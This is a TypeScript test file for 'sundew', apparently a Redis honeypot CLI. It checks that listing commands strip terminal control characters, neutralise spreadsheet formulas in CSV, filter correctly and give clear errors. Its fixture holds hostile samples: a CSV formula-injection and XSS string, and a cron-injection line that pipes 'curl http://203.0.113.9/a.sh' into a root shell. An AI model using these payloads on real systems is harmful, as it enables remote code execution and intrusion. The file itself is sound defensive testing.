import { describe, expect, test } from 'vitest';
import { temporaryData } from './peers/data-folder.ts';
import { redisCli } from './peers/redis-cli.ts';
import { startSensor } from './peers/running-sensor.ts';
import { sundew } from './peers/sundew.ts';

const HOSTILE = '=cmd|"/c calc"!A1 \u001b[31m<img src=x onerror=alert(1)>';

async function afterAnAttack(): Promise<{ SUNDEW_DATA: string }> {
  const data = temporaryData();
  const { running, port } = await startSensor(data);
  await redisCli(port, ['set', HOSTILE, '\n\n*/3 * * * * root curl http://203.0.113.9/a.sh | sh\n\n']);
  await running.stop();
  return data;
}

describe('the commands that list', () => {
  test('show nothing that acts on a terminal', async () => {
    const data = await afterAnAttack();

    for (const command of ['events', 'findings', 'sources', 'sessions', 'indicators', 'campaigns']) {
      for (const format of command === 'events'
        ? [[], ['--ndjson']]
        : [[], ['--json'], ['--ndjson'], ['--csv']]) {
        const { out, code } = await sundew([command, ...format], data);

        expect(code).toBe(0);
        expect(out).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
      }
    }
    // Two dozen processes, one after the other.
  }, 120_000);

  test('write CSV in which no spreadsheet finds a formula', async () => {
    const { out } = await sundew(['indicators', '--csv'], await afterAnAttack());

    expect(out).toContain("'=cmd");
    expect(out).not.toMatch(/(^|,|\n)"?=cmd/);
  });

  test('filter by text and time, and say so when nothing is left', async () => {
    const data = await afterAnAttack();

    const url = await sundew(['indicators', '--contains', 'A.SH', '--kind', 'url'], data);
    const none = await sundew(['findings', '--until', '7d'], data);
    const future = await sundew(['sessions', '--since', '2999-01-01'], data);

    expect(url.out).toContain('203.0.113.9/a.sh');
    expect(none.err).toContain('Nothing to show');
    expect(future.err).toContain('Nothing to show');
  });

  test.for([
    [['findings', '--since', 'yesterday'], 'is not a time'],
    [['indicators', '--kind', 'nonsense'], 'nonsense'],
    [['events', '--type', 'redis.nonsense'], 'redis.nonsense'],
    [['sessions', 'nonsense'], 'There is no session nonsense'],
    [['nonsense'], 'nonsense'],
    [['findings', '--limit', '0'], 'whole number'],
  ] as const)('refuse %j with a reason', async ([words, reason]) => {
    const data = await afterAnAttack();

    const { code, err } = await sundew(words, data);

    expect(code).toBe(2);
    expect(err).toContain(reason);
  });

  test('say what to do when there is no journal yet', async () => {
    const { code, err } = await sundew(['findings'], temporaryData());

    expect(code).toBe(2);
    expect(err).toContain('sundew up');
  });
});
